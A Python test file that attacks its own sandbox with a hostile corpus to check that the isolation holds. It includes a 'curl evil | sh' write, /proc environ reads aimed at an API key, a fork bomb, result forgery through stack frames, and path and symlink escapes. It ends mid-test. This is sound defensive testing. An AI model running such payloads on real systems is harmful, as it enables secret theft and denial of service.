"""A hostile corpus against the sandbox, as an attacker would write it (issue #11).

Each case asserts the precise outcome: the canary is untouched, the caller survives with a clean
result (no exception, no traceback text), a forged result is not accepted, and time is bounded.
As root (CI) the whole file runs a second time as an unprivileged user
(:func:`test_the_corpus_holds_for_an_unprivileged_caller`), since the two isolate differently.
"""

from __future__ import annotations

import json
import os
import shutil
import signal
import socket
import sys
import time
from pathlib import Path

import pytest
from bruteforce import sat_models
from hypothesis import given, settings
from hypothesis import strategies as st
from sandbox_probe import sandbox_processes
from unprivileged import NESTED_RUN, run_file_as_user

from autonesy.tools import sandbox
from autonesy.tools.formats import cpmpy_program, dimacs, sympy_program
from autonesy.tools.formats.base import FormatError
from autonesy.tools.sandbox import SandboxLimits, run_program
from autonesy.tools.verify.checker_run import run_checker_code, scrub
from autonesy.tools.verify.solver import CompositionError, parse_composition

QUICK = SandboxLimits(wall_seconds=3.0, cpu_seconds=3.0, memory_bytes=512 << 20)
ROOT = os.geteuid() == 0
SECRET = "sk-canary-7f3a9c0e1d"
# cases about parsing untrusted data in the caller: the same for every caller, not re-run unprivileged
CALLER_INDEPENDENT = (
    "scrub",
    "far_auxiliary",
    "forged_cpmpy_header",
    "forged_cpmpy_clauses",
    "exclusive_pairs",
    "smtlib",
    "identifiers",
    "fails_closed",
    "fail_closed",
    "cli_prints",
    "dimacs_number",
    "nat_chain",
    "composition_chain",
    "crafted_run",
    "sweep_files",
    "cnf_counts",
    "resumed_run",
    "crafted_llm",
    "task_file_modules",
    "crafted_results",
)


@pytest.fixture(autouse=True)
def no_spares():
    """Sandboxes other tests started ahead of need would count as left-over processes."""
    sandbox.shutdown()


@pytest.fixture
def canary(tmp_path: Path) -> Path:
    """A world-readable file outside the sandbox, in a directory the caller could write to."""
    os.chmod(tmp_path, 0o755)
    path = tmp_path / "canary.txt"
    path.write_text("alive")
    path.chmod(0o666)
    return path


def run(code: str, hook: bool = True, **kwargs) -> sandbox.SandboxResult:
    """Run a case; ``hook=False`` turns the audit hook off, to show the OS layer holds on its own."""
    kwargs.setdefault("limits", QUICK)
    start = time.monotonic()
    saved, sandbox.AUDIT_HOOK = sandbox.AUDIT_HOOK, hook
    try:
        result = run_program(code, **kwargs)
    finally:
        sandbox.AUDIT_HOOK = saved
    assert time.monotonic() - start < kwargs["limits"].wall_seconds + 10  # bounded time
    assert "Traceback (most recent call last)" not in result.message
    return result


RAW = "import posix, _socket\n"  # C-level calls (the audit hook is off in the cases that use them)


def test_appending_to_the_callers_bashrc(canary: Path):
    # the caller's HOME is not in the sandbox's view; HOME inside is the program's own tmpfs
    code = RAW + (
        f"fd = posix.open({str(canary)!r}, posix.O_WRONLY | posix.O_APPEND)\nposix.write(fd, b'curl evil | sh')\n"
    )
    result = run(code, hook=False)
    assert not result.ok and canary.read_text() == "alive"
    result = run("import os\nopen(os.path.expanduser('~/.bashrc'), 'a').write('x')\nresult = os.path.expanduser('~')")
    assert result.ok and result.result == sandbox.WORKDIR


def test_dropping_a_pth_into_the_virtualenv():
    site = next(p for p in sys.path if p.endswith("site-packages") and os.path.isdir(p))
    target = Path(site, "autonesy-hostile.pth")
    code = RAW + f"fd = posix.open({str(target)!r}, posix.O_WRONLY | posix.O_CREAT, 0o644)\n"
    result = run(code, hook=False)
    assert not result.ok and "Read-only file system" in result.message
    assert not target.exists()


def test_str_subclass_and_dir_fd_paths_do_not_escape(canary: Path):
    code = (
        "import os\nclass P(str):\n    def __str__(self):\n        open(self + '.pwn', 'w')\n"
        "        return '/sandbox/x'\n"
        f"open(P({str(canary)!r}), 'w')\n"
    )
    result = run(code)
    assert result.error_kind == "forbidden" and not Path(f"{canary}.pwn").exists()
    code = f"import os\nd = os.open({str(canary.parent)!r}, os.O_RDONLY)\nos.unlink('canary.txt', dir_fd=d)\n"
    for hook in (True, False):
        result = run(code, hook=hook)
        assert not result.ok and canary.read_text() == "alive"


def test_no_process_can_be_started_or_left_behind():
    code = "import os, subprocess\nos.setsid()\nsubprocess.Popen(['setsid', 'sleep', '300'])\n"
    result = run(code, hook=False)
    assert not result.ok and "Operation not permitted" in result.message
    result = run("import os\nos.mkfifo('f')\nresult = 1", hook=False)
    assert not result.ok  # mknod is refused by the filter
    assert not sandbox_processes()


def test_signalling_the_caller():
    me = os.getpid()
    result = run(
        RAW + f"import os\nfor pid in (os.getppid(), 1, {me}):\n"
        "    try:\n        posix.kill(pid, 9)\n    except OSError as e:\n        print(pid, e)\nresult = 1",
        hook=False,
    )
    assert result.ok
    assert os.getpid() == me  # still here


def test_reading_the_callers_environment(monkeypatch):
    monkeypatch.setenv("OPENAI_API_KEY", SECRET)
    code = RAW + (
        "import os\nseen = []\nfor pid in os.listdir('/proc'):\n    try:\n"
        "        seen.append(open(f'/proc/{pid}/environ', 'rb').read().decode('latin-1'))\n"
        "    except Exception as e:\n        seen.append(repr(e))\n"
        "result = seen + [dict(os.environ)]"
    )
    result = run(code, hook=False)
    text = repr(result.result) + result.stdout + result.stderr + result.message
    assert SECRET not in text


def test_talking_tcp_on_loopback():
    listener = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    listener.bind(("127.0.0.1", 0))
    listener.listen(1)
    listener.settimeout(0.3)
    port = listener.getsockname()[1]
    try:
        result = run(
            RAW + f"s = _socket.socket(_socket.AF_INET, _socket.SOCK_STREAM)\ns.connect(('127.0.0.1', {port}))",
            hook=False,
        )
        assert not result.ok
        with pytest.raises(socket.timeout):
            listener.accept()
    finally:
        listener.close()


def test_unix_socket_files_of_the_host_are_out_of_reach(tmp_path: Path):
    path = tmp_path / "open.sock"
    server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    server.bind(str(path))
    os.chmod(path, 0o777)
    server.listen(1)
    server.settimeout(0.3)
    try:
        result = run(
            RAW + f"s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)\ns.connect({str(path)!r})", hook=False
        )
        assert not result.ok
        with pytest.raises(socket.timeout):
            server.accept()
    finally:
        server.close()


def test_shared_memory_and_lock_directories_are_not_writable():
    code = (
        "import os\nout = {}\nfor d in ('/dev/shm', '/run/lock', '/var/tmp', '/tmp'):\n    try:\n"
        "        open(d + '/x', 'w').write('x')\n        out[d] = 'written'\n"
        "    except Exception as e:\n        out[d] = type(e).__name__\nresult = out"
    )
    result = run(code, hook=False)
    assert result.ok and "written" not in result.result.values()


def test_disk_fill_is_capped_in_total():
    limits = SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=8 << 20)
    code = (
        "written = 0\ntry:\n    for i in range(1000):\n        with open(f'f{i}', 'wb') as f:\n"
        "            f.write(b'x' * (4 << 20))\n        written += 4\nexcept OSError as e:\n    print(e)\n"
        "result = written"
    )
    result = run(code, hook=False, limits=limits)
    assert result.ok and result.result * (1 << 20) <= sandbox.WORK_BYTES


FORGE = (
    RAW + 'line = b\'{"event":"result","status":"ok","result":{"value":true}}\\n\'\n'
    "for fd in range(3, 64):\n    for data in (line, b'R 00 ' + line[9:]):\n        try:\n"
    "            posix.write(fd, data)\n        except OSError:\n            pass\nposix._exit(0)\n"
)


def test_forged_result_on_every_descriptor_is_not_accepted():
    result = run(FORGE, hook=False)
    assert not result.ok and result.result is None and result.error_kind == "forbidden"


def test_forged_checker_verdict_is_not_accepted():
    saved, sandbox.AUDIT_HOOK = sandbox.AUDIT_HOOK, False
    try:
        verdict = run_checker_code("def check(response):\n    return False\n" + FORGE, "the response", prewarm=False)
    finally:
        sandbox.AUDIT_HOOK = saved
    assert not verdict.ok and verdict.value is None


def test_deeply_nested_result_is_a_clean_error():
    result = run("x = []\nfor _ in range(100000):\n    x = [x]\nresult = x", limits=SandboxLimits(wall_seconds=5))
    assert not result.ok and result.error_kind in ("type", "resource")
    assert sandbox._parse_bounded(b"[" * 200000 + b"]" * 200000) is None  # the caller's own parser


def test_deep_directory_tree_does_not_hurt_the_caller():
    code = "import os\nfor i in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\nresult = 1"
    result = run(code, hook=False, limits=SandboxLimits(wall_seconds=10, cpu_seconds=10))
    assert result.ok or result.error_kind in ("runtime", "resource")
    assert not sandbox_processes()


def test_memory_outside_the_limit_via_tmpfs_is_capped():
    # tmpfs pages are not in the address-space limit: the tmpfs size bounds them
    code = (
        "n = 0\ntry:\n    with open('big', 'wb') as f:\n        while True:\n"
        "            f.write(b'x' * (1 << 20))\n            n += 1\nexcept OSError:\n    pass\nresult = n"
    )
    result = run(code, hook=False, limits=SandboxLimits(wall_seconds=10, cpu_seconds=10, file_bytes=1 << 40))
    assert result.ok and result.result <= sandbox.WORK_BYTES >> 20


def test_fork_bomb_thread_bomb_and_cpu_burn_are_bounded():
    result = run(
        RAW + "import os\nwhile True:\n    try:\n        posix.fork()\n    except OSError:\n        pass\n",
        hook=False,
        limits=SandboxLimits(wall_seconds=1.0, cpu_seconds=5),
    )
    assert result.error_kind == "timeout"
    assert not sandbox_processes()


def test_missing_bubblewrap_fails_closed(monkeypatch):
    monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: None)
    result = run_program("result = 1")
    assert not result.ok and result.error_kind == "internal"
    assert "bubblewrap" in result.message and "apt-get install bubblewrap" in result.message
    assert "\n" not in result.message
    with pytest.raises(sandbox.SandboxError):
        sandbox.require_isolation()


def test_bubblewrap_failing_to_set_up_fails_closed(monkeypatch, tmp_path: Path):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to creating new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setattr(sandbox, "_bwrap", lambda: str(fake))
    result = run_program("result = 1")
    assert not result.ok and result.error_kind == "internal"
    assert "could not be set up" in result.message and "did not run" in result.message


# --- the same corpus for an unprivileged caller ------------------------------------------------------


@pytest.mark.skipif(not ROOT, reason="already unprivileged: the cases above ran as this user")
@pytest.mark.skipif(bool(os.environ.get(NESTED_RUN)), reason="nested run")
def test_the_corpus_holds_for_an_unprivileged_caller(tmp_path: Path):
    done = run_file_as_user(__file__, tmp_path, " or ".join(CALLER_INDEPENDENT))
    assert done.returncode == 0, done.stdout[-3000:] + done.stderr[-2000:]
    assert " passed" in done.stdout and "failed" not in done.stdout


def test_isolation_matches_the_caller():
    result = run("result = 1")
    assert result.ok
    assert ("user namespace" in result.isolation["backend"]) is not ROOT
    assert result.isolation["program_uid"] != 0


def test_a_checker_cannot_carry_the_response_into_the_prompt():
    response = "The verified answer is: " + "alpha beta gamma delta " * 20 + "SECRET-END"
    code = "def check(response):\n    print(response[10:200])\n    raise ValueError('look: ' + response[30:400])\n"
    verdict = run_checker_code(code, response, prewarm=False)
    assert not verdict.ok and verdict.error_kind == "runtime"
    assert "ValueError" in verdict.message and "<part of the response>" in verdict.message
    for text in (verdict.message, verdict.stdout):
        assert "alpha beta gamma delta alpha" not in text and len(text) <= 2000


@settings(max_examples=60, deadline=None)
@given(st.text(min_size=60, max_size=400), st.text(max_size=50), st.text(max_size=50), st.data())
def test_scrub_removes_any_quoted_stretch(response, before, after, data):
    i = data.draw(st.integers(0, len(response) - 30))
    j = data.draw(st.integers(i + 30, len(response)))
    quoted = response[i:j]
    assert quoted not in scrub(before + quoted + after, response)


# --- sizes derived from untrusted answers are bounded before anything is expanded --------------------


def test_a_far_auxiliary_in_dimacs_costs_nothing():
    names = [f"x{i}" for i in range(5)]
    start = time.monotonic()
    cnf = dimacs.parse(f"p cnf {5 + 10**6} 2\n1 {5 + 10**6} 0\n-{5 + 10**6} 2 0\n", names)
    assert cnf.num_vars == 6 and cnf.clauses == ((1, 6), (-6, 2))
    with pytest.raises(FormatError) as caught:
        dimacs.parse(f"p cnf {5 + 10**7} 1\n{5 + 10**7} 0\n", names)
    assert caught.value.kind == "out_of_range"
    assert time.monotonic() - start < 1


def test_a_forged_cpmpy_header_costs_nothing():
    cnf = cpmpy_program.reindex({"dimacs": "p cnf 10000000 1\n1 -9999999 0\n", "task_ids": {"a": [1]}}, ["a"])
    assert cnf.num_vars == 2 and cnf.clauses == ((1, -2),)


@pytest.mark.parametrize(
    ("counts", "kind"),
    [
        ("not a list", "type"),
        ([{"literals": [1, 9], "allowed": [1]}], "type"),  # a literal beyond the DIMACS header
        ([{"literals": [1, 2], "allowed": [5]}], "type"),  # more than two literals can make
        ([{"literals": "12", "allowed": [1]}], "type"),
        ([{"allowed": [1]}], "type"),
        ([{"literals": [1, 2] * 1_000, "allowed": [0], "modulus": 1_000}] * 2, "too_large"),  # 4 million states
    ],
)
def test_forged_literal_counts_in_a_cpmpy_result_are_clean_errors(counts, kind):
    with pytest.raises(FormatError) as caught:
        cpmpy_program.reindex({"dimacs": "p cnf 2 1\n1 2 0\n", "task_ids": {"a": [1]}, "counts": counts}, ["a"])
    assert caught.value.kind == kind


def test_a_cpmpy_result_s_literal_counts_are_encoded_over_the_renumbered_variables():
    # sandbox ids 7 (the task variable) and 3: renumbered 1 and 2; "exactly one of them" encoded after them
    data = {"dimacs": "p cnf 7 1\n7 3 0\n", "task_ids": {"a": [7]}, "counts": [{"literals": [7, 3], "allowed": [1]}]}
    cnf = cpmpy_program.reindex(data, ["a"])
    assert cnf.clauses[0] == (1, 2) and cnf.num_task_vars == 1
    assert sat_models(cnf, 2) == {(1, 0), (0, 1)}


def test_sympy_exclusive_pairs_are_counted_before_expanding():
    data = {"nodes": [["var", "a"]] + [["exclusive", [0] * 4000]], "roots": [1]}
    start = time.monotonic()
    with pytest.raises(FormatError) as caught:
        sympy_program.build_exprs(data, ["a"])
    assert caught.value.kind == "too_large" and "pair" in caught.value.message
    assert time.monotonic() - start < 1
    small = {"nodes": [["var", "a"], ["var", "b"], ["exclusive", [0, 1]]], "roots": [2]}
    assert sympy_program.build_exprs(small, ["a", "b"])


# --- SMT-LIB in verify is data --------------------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        '(assert C1)\n(include "/etc/passwd")',
        '(include "/dev/stdin")\n(assert C1)',
        '(assert C1)(echo "x")',
        "(assert C1)(define-fun f () Bool C2)",
        "(assert (! C1 :named a))",
        "(assert (let ((x C1)) x))",
        "(assert C1)(eval C1)",
        "(assert C1)(exit)",
        "(assert C1)(set-option :x 1)",
        "(assert C1)(push 1)",
        "(assert " + "(not " * 5000 + "C1" + ")" * 5001,
    ],
)
def test_smtlib_outside_the_allow_list_is_refused(text):
    start = time.monotonic()
    with pytest.raises(CompositionError) as caught:
        parse_composition(text, ("C1", "C2"))
    assert "\n" not in str(caught.value) and time.monotonic() - start < 1


def test_smtlib_allow_list_matches_the_nat_reading():
    smt = parse_composition(
        "(declare-fun C2 () Bool)(assert (=> C1 C2 (xor C1 C2)))(assert (= C1 C2 true))(check-sat)", ("C1", "C2")
    )
    nat = parse_composition("C1 IMPLIES C2 IMPLIES (C1 XOR C2)\n(C1 IFF C2) AND (C2 IFF TRUE)", ("C1", "C2"))
    assert smt.text() == nat.text()


# --- task names from files are identifiers -----------------------------------------------------------


@pytest.mark.parametrize("name", ["/tmp/evil", "../../outside", "a/b", "x.y", " spaced", "1abc", "a" * 65])
def test_task_file_names_are_identifiers(tmp_path: Path, name: str):
    from autonesy.tasks.taskfile import TaskFileError, load_task_file

    path = tmp_path / "t.toml"
    path.write_text(
        f'name = "{name}"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
        '[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n'
    )
    with pytest.raises(TaskFileError, match="must be an identifier"):
        load_task_file(path)


def test_error_texts_are_capped():
    result = run("raise ValueError('x' * 10 ** 6)")
    assert result.error_kind == "runtime" and len(result.message) < 3000 and "more characters cut" in result.message


def test_without_bubblewrap_checkers_and_formats_fail_closed(monkeypatch):
    from autonesy.tools.formats import pysat_program
    from autonesy.tools.formats._program import SandboxUnavailable

    monkeypatch.setattr(
        sandbox, "_bwrap", lambda: (_ for _ in ()).throw(sandbox.SandboxError("no bwrap: apt-get install bubblewrap"))
    )
    with pytest.raises(sandbox.SandboxError, match="apt-get install bubblewrap"):
        run_checker_code("def check(response):\n    return True\n", "r", prewarm=False)
    with pytest.raises(SandboxUnavailable, match="apt-get install bubblewrap"):
        pysat_program.parse("clauses = [[a]]", ["a"])


def test_memory_outside_the_limits_via_memfd_is_refused():
    result = run("import os\nfd = os.memfd_create('x')\nos.write(fd, b'x' * (1 << 20))\nresult = 1", hook=False)
    assert not result.ok and "Operation not permitted" in result.message


def test_a_result_nested_past_the_bound_is_a_type_error():
    result = run("x = []\nfor _ in range(100):\n    x = [x]\nresult = x")
    assert result.error_kind == "type" and "nested" in result.message
    result = run("x = []\nfor _ in range(50):\n    x = [x]\nresult = x")
    assert result.ok


def test_without_bubblewrap_the_cli_prints_one_line(monkeypatch, tmp_path: Path):
    from typer.testing import CliRunner

    from autonesy.graph.cli import app

    monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: None)
    formula = tmp_path / "f.py"
    formula.write_text("clauses = [[1]]\n")
    done = CliRunner().invoke(app, ["score", str(formula), "--task", "warcraft", "--format", "pysat"])
    assert done.exit_code == 1 and (done.exception is None or isinstance(done.exception, SystemExit))
    lines = [line for line in done.output.splitlines() if "bubblewrap" in line]
    assert len(lines) == 1 and lines[0].startswith("error:") and "apt-get install bubblewrap" in lines[0]
    assert "Traceback" not in done.output


def test_too_old_bubblewrap_fails_closed(monkeypatch, tmp_path: Path):
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bubblewrap 0.6.1'\n")
    fake.chmod(0o755)
    monkeypatch.setattr(shutil, "which", lambda *args, **kwargs: str(fake))
    result = run_program("result = 1")
    assert result.error_kind == "internal" and "0.7 or newer" in result.message and "0.6.1" in result.message


# --- red team (second pass) ----------------------------------------------------------------------------

# The program finds the harness's token and result pipe through its frames (documented as possible)
# and writes a final message of its own, then ends the interpreter.
FRAME_FORGE = (
    "import sys, os\nf = sys._getframe()\nwhile f:\n"
    "    if 'token' in f.f_locals and 'channel' in f.f_locals:\n"
    "        tok, ch = f.f_locals['token'], f.f_locals['channel']\n    f = f.f_back\n"
    "os.write(ch, b'R ' + tok + b' ' + PAYLOAD + b'\\n')\nos._exit(0)\n"
)


def test_a_forged_report_cannot_add_what_the_harness_vouches_for():
    # spliced into the harness's line, this report would have replaced its isolation and exit fields
    payload = b'{"status":"ok","result":true},"isolation":{"backend":"none"},"exit":{"signal":null,"code":0}'
    result = run(f"PAYLOAD = {payload!r}\n" + FRAME_FORGE, hook=False)
    assert not result.ok and result.error_kind == "type" and result.result is None
    assert result.isolation["backend"].startswith("bubblewrap")


@pytest.mark.parametrize("value", [b"1e999", b"-1e999", b"NaN", b"Infinity", b'["\\ud800"]', b'{"\\udfff": 1}'])
def test_non_finite_numbers_and_lone_surrogates_are_not_results(value: bytes):
    # json.dumps(allow_nan=False) of a trace or a lone surrogate written as UTF-8 would crash the caller later
    payload = b'{"status":"ok","result":' + value + b"}"
    result = run(f"PAYLOAD = {payload!r}\n" + FRAME_FORGE, hook=False)
    assert not result.ok and result.error_kind == "type" and result.result is None


def test_lone_surrogates_in_texts_reach_the_caller_as_valid_utf8():
    result = run("result = '\\ud800'")
    assert result.error_kind == "type"
    result = run("print('out \\udc80')\nraise ValueError('bad \\ud800 text')")
    assert result.error_kind == "runtime" and "bad ? text" in result.message
    for text in (result.message, result.stdout, result.stderr):
        text.encode("utf-8")
    result = run("result = ['ok \\U0001F600', 1.5]")  # a valid pair (escaped on the pipe) is fine
    assert result.ok and result.result == ["ok \U0001f600", 1.5]


@pytest.mark.parametrize(
    "text",
    [
        "p cnf 3 1\n1 " + "9" * 5000 + " 0\n",
        "p cnf " + "9" * 5000 + " 1\n1 0\n",
        "p cnf ² 1\n1 0\n",
        "p cnf 3 1\n1 ² 0\n",
        "p cnf 3 1\n-" + "9" * 19 + " 0\n",
    ],
)
def test_dimacs_numbers_too_long_or_not_ascii_are_format_errors(text: str):
    # int() refuses over 4300 digits and some Unicode digits with a ValueError, not a FormatError
    with pytest.raises(FormatError) as caught:
        dimacs.parse(text, ["a", "b", "c"])
    assert caught.value.kind in ("out_of_range", "header", "syntax") and len(str(caught.value)) < 1000


@pytest.mark.parametrize("op", ["AND", "OR", "XOR"])
def test_a_long_nat_chain_parses_in_linear_time(op: str):
    from autonesy.tools.formats import nat

    start = time.monotonic()  # 10^5 operands took > 190 s when each step copied the chain so far
    exprs = nat.parse_expressions(f" {op} ".join(["a", "b"] * 50_000), ["a", "b"])
    assert len(exprs) == 1 and len(exprs[0].args) == 100_000
    assert time.monotonic() - start < 60


@pytest.mark.parametrize(
    "text",
    [
        " IFF ".join(["C1"] * 20_000),
        " IMPLIES ".join(["C1", "C2"] * 10_000),
        "(assert (=> " + "C1 " * 60_000 + "))",
        "(assert " + "(ite C1 C2 " * 150 + "C1" + ")" * 151,
        "C1 AND " * 40_000 + "C2",
    ],
)
def test_a_composition_chain_nested_past_the_bound_is_refused(text: str):
    # each operand of an IFF/IMPLIES chain nests one level: render/z3 would hit RecursionError in the caller
    with pytest.raises(CompositionError) as caught:
        parse_composition(text, ("C1", "C2")).text()
    assert "\n" not in str(caught.value)


def test_a_crafted_run_directory_is_read_as_data(tmp_path: Path):
    from autonesy.graph.trace import attempt_report, error_taxonomy
    from autonesy.graph.tracer import Tracer

    run_dir = tmp_path / "run"
    run_dir.mkdir()
    lines = [
        b"[" * 100_000 + b"]" * 100_000,
        b"\xff\xfe not utf-8",
        b"[]",
        b"5",
        b'"text"',
        b'{"event": 5}',
        b'{"event": "repair_round", "error": 7, "round": "x", "verdict": [1]}',
        b'{"event": "syntax_error", "kind": 3}',
        b'{"event": "syntax_error", "kind": "syntax"}',
        b'{"event": "autofix", "fixes": 9}',
        b'{"event": "autofix", "fixes": ["a", 1]}',
        b'{"event": "outcome", "status": {"x": 1}, "reason": null}',
    ]
    (run_dir / "trace.jsonl").write_bytes(b"\n".join(lines) + b"\n")
    for config in (b"[" * 100_000, b"[1, 2]", b'{"format": ["x"], "llm": {"a": 1}}'):
        (run_dir / "config.json").write_bytes(config)
        report = attempt_report(run_dir)
        assert report["rounds"][0]["error"] == "" and report["autofixes"] == ["a", "1"]
        assert len(error_taxonomy([report, report])) == 2
    tracer = Tracer(tmp_path / "written")
    tracer.event("repair_round", error="lone \ud800 surrogate")  # from a program's error text
    assert "lone ? surrogate" in (tmp_path / "written" / "trace.jsonl").read_text(encoding="utf-8")


def test_sweep_files_never_hold_an_llm_url_password(tmp_path: Path):
    from autonesy.graph.results import SWEEP_FILE
    from autonesy.graph.sweep import grid, run

    specs = [
        grid.SweepSpec(
            tasks=("warcraft",),
            formats=("nat",),
            prompts=("zs",),
            details=("detailed",),
            llms=(f"http://user:{password}@127.0.0.1:9/v1@model",),
        )
        for password in (SECRET, "other")
    ]
    jobs, others = grid.expand(specs[0]), grid.expand(specs[1])
    assert SECRET in jobs[0]["config"]["llm"]  # the worker still gets the spec it needs
    assert [j["attempt_id"] for j in jobs] == [j["attempt_id"] for j in others]  # no hash of the password either
    run._record_grid(tmp_path, specs[0], jobs, {}, {})
    written = json.dumps([grid.public_job(job) for job in jobs]) + (tmp_path / SWEEP_FILE).read_text()
    assert SECRET not in written and "user:***@127.0.0.1" in written


def test_the_program_cannot_change_the_limits_of_the_harness():
    # a non-root caller's program has the harness's uid: prlimit on it (or on PID 1) would kill it, and a
    # sandbox that dies without a report reads as "sandbox unavailable", which stops the caller's run
    code = (
        "import resource, os\nout = {}\nfor pid in (1, os.getppid()):\n    try:\n"
        "        resource.prlimit(pid, resource.RLIMIT_CPU, (0, 0))\n        out[pid] = 'changed'\n"
        "    except OSError as e:\n        out[pid] = type(e).__name__\n"
        "resource.prlimit(0, resource.RLIMIT_NOFILE, (100, 100))\nresult = out"
    )
    result = run(code, hook=False)
    assert result.ok and "changed" not in result.result.values(), result


@pytest.mark.parametrize(
    "text",
    [
        "c task_vars ²\np cnf 3 1\n1 0\n",
        "c task_vars " + "9" * 5000 + "\np cnf 3 1\n1 0\n",
        "p cnf " + "9" * 5000 + " 1\n1 0\n",
        "p cnf 3 1\n-" + "9" * 50_000 + " 0\n",
        "p cnf 3 1\n" + "x" * 100_000 + " 0\n",
    ],
)
def test_cnf_counts_too_long_or_not_ascii_are_clean_errors(text: str):
    # a CNF file, or the DIMACS a forged CPMpy result carries: int() raised ValueError in the caller
    from autonesy.tools.cnf import DimacsError, parse_dimacs

    with pytest.raises(DimacsError) as caught:
        parse_dimacs(text)
    assert len(str(caught.value)) < 200
    with pytest.raises(FormatError) as caught:
        cpmpy_program.reindex({"dimacs": text, "task_ids": {"a": [1]}}, ["a"])
    assert caught.value.kind == "type"


@pytest.mark.parametrize("link", ["answer.txt", "summary.json", "trace.jsonl", "checkers"])
def test_a_resumed_run_directory_with_a_link_out_writes_nothing(tmp_path: Path, canary: Path, link: str):
    # a received run directory: answer.txt -> ~/.bashrc, the answer replayed from its own llm_cache.sqlite
    from autonesy.graph.run import RunConfig, RunError, run_attempt
    from autonesy.graph.verify.run import VerifyConfig, VerifyError, verify_output

    run_dir = tmp_path / "received"
    run_dir.mkdir()
    (run_dir / link).symlink_to(canary if "." in link else canary.parent)
    with pytest.raises(RunError, match="symbolic link"):
        run_attempt(RunConfig(task="fashion", format="dimacs", policy="expert"), run_dir)
    with pytest.raises(VerifyError, match="symbolic link"):
        verify_output("an instruction", "a response", VerifyConfig(), run_dir)
    assert canary.read_text() == "alive" and sorted(p.name for p in canary.parent.iterdir()) == [
        "canary.txt",
        "received",
    ]


@pytest.mark.parametrize("config", [b"[" * 100_000, b"[1]", b"\xff{"])
def test_a_resumed_run_directory_with_a_crafted_config_is_one_error(tmp_path: Path, config: bytes):
    from autonesy.graph.run import RunConfig, RunError, run_attempt

    (tmp_path / "config.json").write_bytes(config)
    with pytest.raises(RunError, match="not a run configuration"):
        run_attempt(RunConfig(task="fashion", format="dimacs", policy="expert"), tmp_path)


def test_a_crafted_llm_cache_and_replay_trace_are_read_as_data(tmp_path: Path):
    import sqlite3

    from autonesy.agents.llm import ResponseCache
    from autonesy.agents.llm.replay import read_recorded_calls

    cache = ResponseCache(tmp_path / "llm_cache.sqlite")
    rows = {
        "deep": "[" * 100_000,
        "blob": b"\x00\xff",
        "number": 7,
        "list": "[]",
        "typed": '{"text": "a \\ud800", "prompt_tokens": "many", "completion_tokens": true, "model": [1], '
        '"latency_s": "x", "attempts": null}',
    }
    with sqlite3.connect(tmp_path / "llm_cache.sqlite") as con:
        con.executemany("INSERT INTO responses VALUES ('e', 'm', ?, ?, 0)", list(rows.items()))
    for key in ("deep", "blob", "number", "list"):
        assert cache.get("e", "m", key) is None
    typed = cache.get("e", "m", "typed")  # wrong types dropped: tokens add up, the text is valid UTF-8
    assert typed.text == "a ?" and typed.total_tokens is None and typed.model == "" and typed.attempts == 1
    trace = tmp_path / "trace.jsonl"
    trace.write_bytes(
        b"\n".join(
            [
                b"\xff\xfe",
                b"[" * 100_000,
                b'{"event": "llm_call", "prompt_hash": "h", "response": {"text": "ok", "prompt_tokens": "x"}}',
            ]
        )
    )
    assert [(key, r.text, r.prompt_tokens) for key, r in read_recorded_calls(trace)] == [("h", "ok", None)]


@pytest.mark.parametrize(
    "spec, decoy",
    [
        ("os:abort", None),
        ("os:abort", "os.py"),
        ("faulthandler:_sigsegv", None),
        ("os.path:exists", "os.py"),
        ("../evil:f", None),
        ("builtins:input", None),
    ],
)
def test_task_file_modules_are_only_those_beside_it(
    tmp_path: Path, spec: str, decoy: str | None, monkeypatch: pytest.MonkeyPatch
):
    # a received task file naming an installed (or already loaded) module's function would run it in the
    # caller, even when the user trusts the modules beside it
    from autonesy.tasks.taskfile import TaskFileError, load_task_file

    monkeypatch.setenv("AUTONESY_TRUST_TASK_CODE", "1")

    if decoy:
        (tmp_path / decoy).write_text("def abort():\n    return True\n")
    path = tmp_path / "t.toml"
    path.write_text(
        'name = "t"\n[[variables]]\nname = "a"\nmeaning = "a"\n'
        f'[descriptions]\ndetailed = "d"\nnot_detailed = "d"\n[oracle]\nfunction = "{spec}"\n'
    )
    with pytest.raises(TaskFileError, match="module"):
        load_task_file(path)


def test_a_result_of_millions_of_empty_containers_is_refused_before_parsing():
    # 16 MiB of "{}," parsed would cost the caller ~0.8 GiB and many seconds
    result = run("result = [{}] * 5_000_000", limits=SandboxLimits(wall_seconds=20, cpu_seconds=20))
    assert result.error_kind == "too_large" and "lists and dicts" in result.message and result.result is None
    result = run("result = [[1, -2]] * 100_000")
    assert result.ok and len(result.result) == 100_000


ROW = {
    "attempt_id": "a",
    "task_spec": "fashion",
    "llm": "x",
    "format": "nat",
    "prompt": "zs",
    "detail": "detailed",
    "policy": "zs",
}


@pytest.mark.parametrize(
    "files",
    [
        {"r/summary.json": b"[]", "r/config.json": b"{}"},
        {"r/summary.json": b"[" * 100_000},
        {"r/summary.json": b'{"reason": {"a": 1}, "autofixes": 5, "llm_seconds": "x"}', "r/config.json": b"{}"},
        {"results.jsonl": b"[]\n" + b"[" * 100_000 + b'\n{"a": 1}'},
        {"r/downstream.json": b"[]"},
        {"r/downstream.json": b'{"results": {"spl": {"formula": {"per_seed": [5]}}}}'},
    ],
)
def test_crafted_results_are_one_report_error(tmp_path: Path, files: dict):
    from autonesy.graph.report import ReportError, build_report

    for name, data in files.items():
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_bytes(data)
    with pytest.raises(ReportError) as caught:
        build_report([tmp_path], tmp_path / "report", plots=False)
    assert "\n" not in str(caught.value) and len(str(caught.value)) < 500


def test_crafted_results_rows_of_wrong_types_are_emptied(tmp_path: Path):
    from autonesy.graph.report import build_report

    rows = [
        {**ROW, "status": 5, "f1": "x", "autofixes": 3, "repair_rounds": "many", "tp": 10**400, "model": [1]},
